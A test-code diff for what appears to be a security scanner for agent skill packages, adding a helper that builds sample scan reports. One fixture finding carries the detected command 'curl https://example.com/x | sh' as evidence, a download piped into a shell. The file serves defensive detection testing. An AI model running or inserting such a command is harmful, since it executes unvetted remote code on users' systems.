@@ -9,6 +9,19 @@ from pathlib import Path
 
 import pytest
 
+from skillscan.models import (
+    Category,
+    Decision,
+    FileEntry,
+    FileKind,
+    Finding,
+    ScanError,
+    ScanReport,
+    Severity,
+    SkillIdentity,
+    Verdict,
+)
+
 REPO_ROOT = Path(__file__).resolve().parent.parent
 SHARED_CORPUS = REPO_ROOT.parent / "shared" / "corpus"
 PG_URL = "postgresql+psycopg://postgres@127.0.0.1:5432/test"
@@ -50,6 +63,47 @@ def postgres_schema_url() -> Iterator[str]:
         with admin.begin() as conn:
             conn.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
         admin.dispose()
+
+
+def make_report(
+    slug: str = "weather",
+    version: str = "1.0.0",
+    owner: str = "alice",
+    fingerprint: str = "f" * 64,
+    ruleset: str = "r1",
+    verdict: Verdict = Verdict.CLEAN,
+) -> ScanReport:
+    """A scan report to store: clean without findings; otherwise one critical finding (and, when
+    indeterminate, an engine timeout)."""
+    findings: tuple[Finding, ...] = ()
+    if verdict is not Verdict.CLEAN:
+        findings = (
+            Finding(
+                rule_id="download-pipe-shell",
+                analyzer="treesitter",
+                category=Category.REMOTE_EXEC,
+                severity=Severity.CRITICAL,
+                path="SKILL.md",
+                line=12,
+                message="pipes a download into a shell",
+                evidence="curl https://example.com/x | sh",
+            ),
+        )
+    return ScanReport(
+        skill=SkillIdentity(owner=owner, slug=slug, version=version, name=slug, fingerprint=fingerprint),
+        source=f"clawhub:@{owner}/{slug}@{version}",
+        files=(FileEntry(path="SKILL.md", kind=FileKind.MARKDOWN, size=10, sha256="a" * 64),),
+        findings=findings,
+        errors=(ScanError(analyzer="semgrep", path=None, detail="timeout"),)
+        if verdict is Verdict.INDETERMINATE
+        else (),
+        verdict=verdict,
+        decision=Decision.BLOCK if verdict is Verdict.MALICIOUS else Decision.ALLOW,
+        reason="test",
+        tool_version="0.1.0",
+        ruleset_digest=ruleset,
+        timings={"total": 0.5},
+    )
 
 
 @pytest.fixture(scope="session")
